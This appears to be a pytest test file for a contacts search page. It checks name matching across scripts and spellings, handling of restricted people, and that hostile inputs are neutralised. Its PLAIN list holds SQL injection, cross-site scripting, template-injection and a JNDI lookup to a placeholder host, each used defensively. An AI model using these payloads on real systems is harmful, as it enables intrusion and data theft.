"""Whatever is typed for a name or a role: people are found however they are written, and nothing is ever taken for a command.

The identifiers are those of a published list of bad inputs that the house is tried against.
"""

import difflib
import re

import pytest
import time_machine

from contacts.models import Practitioner
from search import index
from tests.finder.reading import main
from tests.profiles.world import NOW, World

NAMES = [
    "Niamh O'Neill", "Seán O’Neill", "Łukasz Nowak", "John Smith", "Harriet D'Arcy-Smith", "Thi Ng", "Min O", "True Adeyemi",
    "Ann Cockburn", "Dick Scunthorpe", "Femke van der Berg", "Ibrahim Kaya", "Jonas Straße", "Anna Strasse", "鈴木 一郎",
    "محمد علي",
]  # fmt: skip
FINDS = {
    "NM-001": ("O'Neill", ["Niamh O'Neill", "Seán O’Neill"]),
    "NM-002": ("O’Neill", ["Niamh O'Neill", "Seán O’Neill"]),
    "NM-003": ("oneill", ["Niamh O'Neill"]),
    "NM-007": ("Lukasz", ["Łukasz Nowak"]),
    "NM-009": ("Smith, John", ["John Smith"]),
    "NM-010": ("Dr Smith", ["John Smith"]),
    "NM-011": ("d'arcy smith", ["Harriet D'Arcy-Smith"]),
    "NM-012": ("  john   smith ", ["John Smith"]),
    "NM-013": ("Ng", ["Thi Ng"]),
    "NM-014": ("O", ["Min O"]),
    "NM-017": ("True", ["True Adeyemi"]),
    "NM-018": ("Cockburn", ["Ann Cockburn"]),
    "NM-019": ("Dick Scunthorpe", ["Dick Scunthorpe"]),
    "NM-020": ("van der Berg", ["Femke van der Berg"]),
    "NM-021": ("İbrahim", ["Ibrahim Kaya"]),
    "NM-022": ("Straße", ["Jonas Straße", "Anna Strasse"]),
    "NM-023": ("鈴木", ["鈴木 一郎"]),
    "NM-024": ("محمد", ["محمد علي"]),
}
PLAIN = {
    "NM-027": "%_%_%",
    "NM-029": "?",
    "NM-030": '"',
    "NM-031": "(((",
    "NM-032": "foo & | bar",
    "NM-033": "name:admin",
    "NM-034": "AND",
    "NM-035": "NEAR(",
    "NM-039": "'' OR 1=1 --",
    "NM-040": "Robert'); DROP TABLE contact;--",
    "NM-042": '"><svg/onload=alert(1)>',
    "NM-043": "javascript:alert(1)",
    "NM-044": "{{7*7}}",
    "NM-045": "{% debug %}",
    "NM-046": "${jndi:ldap://x/a}",
    "NM-052": "\u202eevil",
    "NM-057": "07700 900123",
    "NM-058": "jo.bloggs@example.org",
}


@pytest.fixture
def town(db, client):
    with time_machine.travel(NOW, tick=False):
        world = World()
        for nth, name in enumerate(NAMES):
            world.appoint(world.person(name, f"01632 960{nth:03}"), world.post(f"Post {nth}"))
        index.rebuild()
        client.force_login(world.user())
        yield world


def searched(client, typed):
    page = client.post("/search/", {"q": typed}, follow=True)
    assert page.status_code == 200
    return page


@pytest.mark.parametrize("case", FINDS)
def test_people_are_found_however_they_are_written(town, client, case):
    typed, names = FINDS[case]
    said = main(searched(client, typed))
    assert [name for name in names if name not in said] == []


@pytest.mark.parametrize("case", PLAIN)
def test_signs_are_plain_words_and_come_back_as_they_were_typed(town, client, case):
    typed = PLAIN[case]
    page = searched(client, typed)
    assert page.request["PATH_INFO"].startswith("/search/")
    if "Nothing found" in main(page):
        assert "Duty numbers" in main(page)
    assert page.context["typed"] == typed
    markup = page.content.decode()
    assert "<svg/onload" not in markup
    assert "49" not in re.findall(r'id="box"[^>]*value="([^"]*)"', markup)
    assert "DROP TABLE" not in markup or "&#x27;); DROP TABLE" in markup
    assert Practitioner.objects.count() == len(NAMES)


def test_nothing_typed_lists_nobody(town, client):
    """NM-025."""
    said = main(searched(client, ""))
    assert "Enter a name, role, team or postcode." in said
    assert not [name for name in NAMES if name in said]


def test_far_too_much_is_refused_before_it_is_read(town, client):
    """NM-049."""
    page = searched(client, "a" * 100_000)
    assert "Search must be 200 characters or fewer." in main(page)
    assert "a" * 201 not in page.content.decode()


def test_half_a_character_is_read_with_what_can_be_read(town, client):
    """NM-051."""
    page = client.post("/search/", "q=%ED%A0%80smith", content_type="application/x-www-form-urlencoded", follow=True)
    assert page.status_code == 200
    assert "There is a problem" not in main(page)


def test_an_nhs_number_is_neither_searched_nor_kept(town, client):
    """NM-056."""
    page = searched(client, "NHS 9434765919")
    assert "We hold nothing about children, so we didn’t search for that" in main(page)
    assert "9434765919" not in page.content.decode()


def test_the_exact_name_of_somebody_at_risk_reads_like_a_name_nobody_has(town, client):
    """NM-059: byte for byte, but for what was typed."""
    hidden = Practitioner.objects.get(name="True Adeyemi")
    Practitioner.objects.filter(pk=hidden.pk).update(restricted=True)
    index.refresh("person", [hidden.pk])

    def page(typed):
        markup = searched(client, typed).content.decode()
        markup = re.sub(r'name="csrfmiddlewaretoken" value="[^"]+"|/search/gAAAA[\w=-]+/|' + re.escape(typed), "", markup)
        return re.sub(r"01632 \d+", "", markup)

    assert (
        list(difflib.unified_diff(page("True Adeyemi").splitlines(), page("Qrue Odozemi").splitlines(), lineterm="", n=0)) == []
    )


def test_a_search_for_somebody_at_risk_takes_as_long_as_for_nobody(town, client):
    """NM-059: the same statements go to the database, so that no clock tells them apart."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    hidden = Practitioner.objects.get(name="True Adeyemi")
    Practitioner.objects.filter(pk=hidden.pk).update(restricted=True)
    index.refresh("person", [hidden.pk])
    searched(client, "somebody first")

    def statements(typed):
        with CaptureQueriesContext(connection) as queries:
            searched(client, typed)
        return [re.sub(r"'[^']*'|\d+", "", query["sql"]) for query in queries]

    assert statements("True Adeyemi") == statements("Qrue Odozemi")


def test_back_to_the_results_shows_the_same_in_the_same_order(town, client):
    """NM-060."""
    first = searched(client, "post")
    address = first.request["PATH_INFO"]
    again = client.get(address)
    assert main(first) == main(again)
